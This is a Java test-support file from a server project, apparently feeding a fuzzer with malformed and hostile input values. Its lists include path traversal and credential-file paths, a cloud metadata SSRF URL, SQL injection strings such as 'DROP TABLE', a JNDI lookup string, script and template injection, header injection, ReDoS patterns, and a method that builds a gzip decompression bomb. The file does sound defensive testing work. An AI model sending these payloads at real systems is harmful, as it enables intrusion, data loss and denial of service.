// SPDX-License-Identifier: Apache-2.0
package io.parley.server.badinput;

import io.parley.server.fixture.Json;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/** Values that are known to cause failures. */
final class HostileValues {
    /** JSON values that no type expects, and values at the limits of types. */
    private static final List<String> JSON = List.of(
            "null",
            "true",
            "false",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "[{}]",
            "{\"a\":1}",
            "\"\"",
            "\" \"",
            "0",
            "-0",
            "-0.0",
            "1",
            "-1",
            "0.1",
            "1e400",
            "-1e400",
            "1e-400",
            "1E+2",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9007199254740993",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "-9223372036854775809",
            "253402300799999",
            "253402300800000",
            "1e18",
            "0.1e-1000",
            "1e999999999",
            "9".repeat(999),
            "1." + "3".repeat(900),
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u0000\"",
            "\"a\\u0000b\"",
            "\"\\u0001\\u001f\\u007f\\u0085\\u2028\"",
            "\"\\ufffe\\uffff\"");

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\t",
            "a",
            "0",
            "-0",
            "1e400",
            "NaN",
            "Infinity",
            "-Infinity",
            "true",
            "null",
            "undefined",
            "0x10",
            "1_000",
            "١٢٣",
            "9223372036854775808",
            "2026-02-30",
            "2026-03-01T25:00:00Z",
            "+999999999-12-31T23:59:59.999999999+18:00",
            "-999999999-01-01T00:00:00-18:00",
            "0000-01-01T00:00:00Z",
            "2026-03-01T10:00:00.123456789123Z",
            "1969-12-31T23:59:59Z",
            "24:00",
            "UTC+99",
            "Europe/Nowhere",
            "../../etc/passwd",
            "..\\..\\",
            "C:\\CON",
            "/dev/zero",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data",
            "http://[::1]:1/",
            "https://a:b@192.0.2.1/",
            "gopher://x",
            "javascript:alert(1)",
            "' OR '1'='1",
            "'; DROP TABLE message; --",
            "\" OR 1=1 --",
            "1); SELECT pg_sleep(60); --",
            "$$; SELECT 1; $$",
            "%' ESCAPE '",
            "\\",
            "\\'",
            "%",
            "_",
            "%%%",
            "%s%n%x",
            "{0}",
            "${jndi:ldap://192.0.2.1/a}",
            "#{7*7}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "]]>",
            "<!--",
            "=1+1",
            "@SUM(1)",
            "+1",
            "-1+1|cmd",
            "(a+)+$",
            "^(([a-z])+.)+[A-Z]([a-z])+$",
            "(?=a)",
            "(?<a>b)\\k<a>",
            "[",
            "(",
            "*",
            "a{1000000000}",
            "(.*)*".repeat(50),
            "a".repeat(300),
            "Я".repeat(256),
            "🙂".repeat(128),
            "\u202Eabc",
            "\uFEFF",
            "\u0000",
            "a\u0000b",
            "\r\nSet-Cookie: a=b",
            "\u001b[31m",
            "İ",
            "ß",
            "ﬃ",
            "e\u0301".repeat(500),
            "__proto__",
            "constructor",
            "toString",
            "$",
            "$..*",
            "$..['a']",
            "$[?@.a]",
            "$[?match(@.a,'(a+)+$')]",
            "$[?search(@,'(.*)*x')]",
            "$[?" + "(".repeat(500),
            "$[?" + "!".repeat(900) + "@]",
            "$" + "..*".repeat(300),
            "$[0:99999999999999999999]",
            "$[-9007199254740991::-1]",
            "$['\\ud800']",
            "*/1 * * * *",
            "* * * * *",
            "@yearly",
            "0 0 30 2 *",
            "99 99 99 99 99",
            "MESSAGE_TIME",
            "telegram",
            "XLSX",
            "one-1-abc");

    private static final List<String> HEADER_VALUES = List.of(
            "",
            "*/*",
            "nonsense",
            "text/html",
            "application/xml",
            "*/*;q=2",
            ";;;",
            ",,,,",
            "bytes=0-0",
            "bytes=-1",
            "bytes=5-1",
            "bytes=99999999999999999999-",
            "bytes=" + "0-0,".repeat(1000) + "0-0",
            "lines=1-2",
            "\"",
            "W/\"",
            "gzip;q=0, *;q=0",
            "nonsense/nonsense",
            "Thu, 99 Foo 0000 99:99:99 GMT",
            "xx-XX-" + "x".repeat(300),
            "-1080",
            "99999999999999999999",
            "+03:00",
            "Bearer",
            "Bearer ",
            "Bearer \u00ff",
            "Basic Og==",
            "Digest a=b",
            "parley_session=",
            "parley_session=a; parley_session=b",
            "=;=;=",
            "h2c",
            "websocket",
            "100-continue",
            "127.0.0.1",
            "for=\"_a\"",
            "close, keep-alive",
            "DELETE",
            "ru",
            "application/json;" + "a=b;".repeat(1000));

    private static final List<byte[]> BYTES = List.of(
            new byte[] {0},
            new byte[] {(byte) 0xff},
            new byte[] {(byte) 0xc0, (byte) 0x80},
            new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
            new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf},
            new byte[] {'\\'},
            new byte[] {'"'},
            new byte[] {'\n'},
            new byte[] {'/', '*'},
            new byte[] {'}'},
            new byte[] {','});

    /** JSON texts that no engine can store unchanged. */
    static final List<String> UNSTORABLE = List.of("\"a\\u0000b\"", "\"\\ud800\"", "\"a\\udc00\\ud800b\"");

    private static byte[] bomb;

    private HostileValues() {}

    /** Returns a JSON text. */
    static String json(Random dice) {
        return dice.nextBoolean() ? RequestMutation.one(dice, JSON) : quoted(text(dice));
    }

    static String text(Random dice) {
        return RequestMutation.one(dice, TEXTS);
    }

    /** Returns a text, or a JSON text as a plain text. */
    static String word(Random dice) {
        return dice.nextInt(3) == 0 ? RequestMutation.one(dice, JSON) : text(dice);
    }

    static String headerValue(Random dice) {
        return RequestMutation.one(dice, HEADER_VALUES);
    }

    /** Returns bytes that are invalid UTF-8, or have a meaning in JSON. */
    static byte[] bytes(Random dice) {
        return RequestMutation.one(dice, BYTES);
    }

    static String quoted(String text) {
        return Json.text(text);
    }

    /** Returns a decompression bomb: one gigabyte in a megabyte. */
    static synchronized byte[] bomb() {
        if (bomb == null) {
            byte[] blanks = " ".repeat(1 << 20).getBytes(StandardCharsets.UTF_8);
            try (ByteArrayOutputStream packed = new ByteArrayOutputStream()) {
                try (GZIPOutputStream gzip = new GZIPOutputStream(packed, 1 << 16)) {
                    for (int i = 0; i < 1024; i++) {
                        gzip.write(blanks);
                    }
                }
                bomb = packed.toByteArray();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return bomb;
    }
}
